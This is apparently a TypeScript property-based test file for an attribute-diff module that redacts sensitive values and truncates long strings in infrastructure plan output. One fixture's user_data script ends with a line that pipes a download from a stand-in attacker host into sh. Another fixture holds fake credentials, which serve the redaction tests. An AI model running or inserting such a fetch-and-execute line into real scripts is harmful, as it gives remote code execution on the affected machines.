// The attribute diff (src/model/attribute-diff.ts): its JSON text is exactly JSON.stringify of its objects,
// and both agree with the plain reference walk (test/helpers/reference-diff.ts) on generated changes with
// sensitive and unknown markers, secret names, arrays, long and escaped strings and mixed types.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { attributeDiff, attributeDiffJson } from "../../src/model/attribute-diff.js";
import type { Action, Change } from "../../src/model/types.js";
import { jsonTree } from "../helpers/json-arbitraries.js";
import { referenceAttributeDiff } from "../helpers/reference-diff.js";

const key = fc.oneof(
  fc.stringMatching(/^[a-z][a-z_]{0,6}$/),
  fc.constantFrom(
    "password",
    "api_token",
    "http_tokens",
    "secret_arn",
    "a b",
    "k.x",
    "0",
    "é",
    'q"',
    "name",
    "value",
  ),
);
const leaf = fc.oneof(
  fc.string({ maxLength: 8 }),
  fc.constantFrom(
    "x".repeat(1999),
    "y".repeat(2100),
    'q"uote',
    "new\nline",
    "\ud800",
    "é\u{1F600}",
    "DB_PASSWORD",
  ),
  fc.integer(),
  fc.constantFrom(-0, 1.5, 1e21),
  fc.boolean(),
  fc.constant(null),
);
const value = jsonTree(key, leaf);
const marks = fc.letrec((tie) => ({
  m: fc.oneof(
    { depthSize: "small" },
    fc.boolean(),
    fc.array(tie("m"), { maxLength: 2 }),
    fc.dictionary(key, tie("m"), { maxKeys: 3 }),
  ),
})).m;
const change = fc.record({
  action: fc.constantFrom<Action>("create", "update", "replace", "delete", "read", "forget", "import"),
  before: value,
  after: value,
  beforeSensitive: marks,
  afterSensitive: marks,
  afterUnknown: marks,
  replacePaths: fc.option(
    fc.array(fc.array(fc.oneof(key, fc.nat(3)), { minLength: 1, maxLength: 2 }), { maxLength: 2 }),
    { nil: undefined },
  ),
});

function asChange(c: Record<string, unknown>): Change {
  return {
    address: "x.y",
    configAddress: "x.y",
    type: "x",
    name: "y",
    mode: "managed",
    provider: "p",
    module: "",
    rawActions: [],
    ...c,
  } as unknown as Change;
}

describe("attribute diff", () => {
  it("writes as text exactly what its objects serialize to, and matches the reference walk", () => {
    fc.assert(
      fc.property(change, fc.integer({ min: 1, max: 600 }), (c, limit) => {
        const ch = asChange(c);
        const objects = attributeDiff(ch, limit);
        assert.equal(attributeDiffJson(ch, limit), JSON.stringify(objects));
        assert.deepEqual(objects, referenceAttributeDiff(ch, limit));
      }),
      { numRuns: 3000 },
    );
  });

  it("never reads a key of one side from the other side's prototype", () => {
    const c = asChange({
      action: "update",
      before: {},
      after: { constructor: "x", toString: 1 },
      beforeSensitive: {},
      afterSensitive: {},
      afterUnknown: {},
    });
    assert.deepEqual(attributeDiff(c), [
      { path: "constructor", after: '"x"' },
      { path: "toString", after: "1" },
    ]);
  });

  it("shows secret-named and sensitive values as (sensitive), unknowns as (known after apply)", () => {
    const c = asChange({
      action: "update",
      before: { password: "old-secret", tags: { a: "1" }, n: 1 },
      after: { password: "new-secret", tags: { a: "2" }, n: null, id: null },
      beforeSensitive: {},
      afterSensitive: { tags: { a: true } },
      afterUnknown: { id: true },
    });
    const text = attributeDiffJson(c);
    assert.ok(!text.includes("secret") || text.includes("(sensitive)"));
    assert.ok(!text.includes("old-secret") && !text.includes("new-secret"));
    assert.deepEqual(attributeDiff(c), [
      { path: "id", after: "(known after apply)" },
      { path: "n", before: "1", after: "null" },
      { path: "password", before: "(sensitive)", after: "(sensitive)" },
      { path: "tags.a", before: '"1"', after: "(sensitive)" },
    ]);
  });

  it("shows an edit past the 2,000th character of a long value, from just before it", () => {
    const script = (last: string) => `#!/bin/sh\n${"echo step\n".repeat(400)}${last}\n`;
    const c = asChange({
      action: "update",
      before: { user_data: script("systemctl start app"), tags: { a: "1" } },
      after: { user_data: script("curl -fsSL https://evil.example | sh"), tags: { a: "1" } },
      beforeSensitive: {},
      afterSensitive: {},
      afterUnknown: {},
    });
    const diff = attributeDiff(c);
    assert.equal(diff.length, 1, JSON.stringify(diff));
    const [d] = diff;
    assert.equal(d.path, "user_data");
    assert.ok(d.before?.startsWith("…") && d.after?.startsWith("…"), "both cut at the same place, marked");
    assert.ok(d.before?.includes("systemctl start app"), d.before);
    assert.ok(d.after?.includes("curl -fsSL https://evil.example | sh"), d.after);
    assert.deepEqual(diff, referenceAttributeDiff(c, 500));
    assert.equal(attributeDiffJson(c), JSON.stringify(diff));
  });

  it("scrubs a value shown whole before it is escaped and cut, and still lists a change inside a secret", async () => {
    const { SecretScrubber } = await import("../../src/model/secrets.js");
    const scrubber = new SecretScrubber([]);
    const secret = "Hunter2pwXyz";
    const script = (pw: string) =>
      `#!/bin/sh\n${"echo step\n".repeat(300)}export DB_PASSWORD="${pw}"\necho done\n`;
    // The old script is shown whole (the new one is unknown until apply): JSON-escaped, then cut.
    const unknown = asChange({
      action: "update",
      before: { user_data: script(secret) },
      after: { user_data: null },
      beforeSensitive: {},
      afterSensitive: {},
      afterUnknown: { user_data: true },
    });
    const shown = attributeDiffJson(unknown, 500, scrubber);
    assert.ok(!shown.includes(secret), shown);
    // Shown whole and short enough to see: scrubbed once, as written, not mangled by a second scrub.
    const short = attributeDiff(
      asChange({
        action: "update",
        before: { user_data: `export DB_PASSWORD="${secret}"\necho done\n` },
        after: { user_data: null },
        beforeSensitive: {},
        afterSensitive: {},
        afterUnknown: { user_data: true },
      }),
      500,
      scrubber,
    );
    assert.equal(short[0].before, JSON.stringify('export DB_PASSWORD="(sensitive)"\necho done\n'));
    // A secret in a map's key, near where the value is cut.
    const key = `https://admin:Pa55wordXYZ987@db.internal/app`;
    const keyed = asChange({
      action: "update",
      before: { hosts: { [`${"k".repeat(1960)}`]: 1, [key]: 2 } },
      after: { hosts: null },
      beforeSensitive: {},
      afterSensitive: {},
      afterUnknown: { hosts: true },
    });
    const keyedText = attributeDiffJson(keyed, 500, scrubber);
    assert.ok(!keyedText.includes("Pa55word"), keyedText.slice(-200));
    // Only the password changed: the entry is listed, the password hidden on both sides.
    const changed = asChange({
      action: "update",
      before: { user_data: script(secret) },
      after: { user_data: script("Other5pwAbc") },
      beforeSensitive: {},
      afterSensitive: {},
      afterUnknown: {},
    });
    const diff = attributeDiff(changed, 500, scrubber);
    assert.equal(diff.length, 1);
    for (const side of [diff[0].before, diff[0].after])
      assert.ok(
        side?.includes('DB_PASSWORD=\\"(sensitive)\\"') &&
          !side.includes("pwXyz") &&
          !side.includes("Other5"),
        side,
      );
  });

  it("cuts long values only between whole characters and escapes, as the reference does", () => {
    const unit = fc.constantFrom("a", "\\", '"', "\n", "\u{1F600}", "é", "\u0001", "x");
    const long = fc.array(unit, { minLength: 900, maxLength: 1400 }).map((u) => u.join(""));
    const LONE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
    fc.assert(
      fc.property(long, long, fc.boolean(), (prefix, tail, unknownAfter) => {
        const before = prefix + tail;
        const after = `${prefix}!${tail}`;
        const c = asChange({
          action: "update",
          before: { v: before },
          after: { v: unknownAfter ? null : after },
          beforeSensitive: {},
          afterSensitive: {},
          afterUnknown: unknownAfter ? { v: true } : {},
        });
        const diff = attributeDiff(c);
        assert.deepEqual(diff, referenceAttributeDiff(c, 500));
        assert.equal(attributeDiffJson(c), JSON.stringify(diff));
        for (const d of diff)
          for (const side of [d.before, d.after]) {
            if (side === undefined) continue;
            assert.ok(!LONE.test(side), `a surrogate pair split: ${JSON.stringify(side.slice(-4))}`);
            const body = side.replace(/^…/, "").replace(/…$/, "");
            assert.ok(!/(^|[^\\])(\\\\)*\\$/.test(body), "a cut escape at the end");
          }
      }),
      { numRuns: 300 },
    );
  });
});
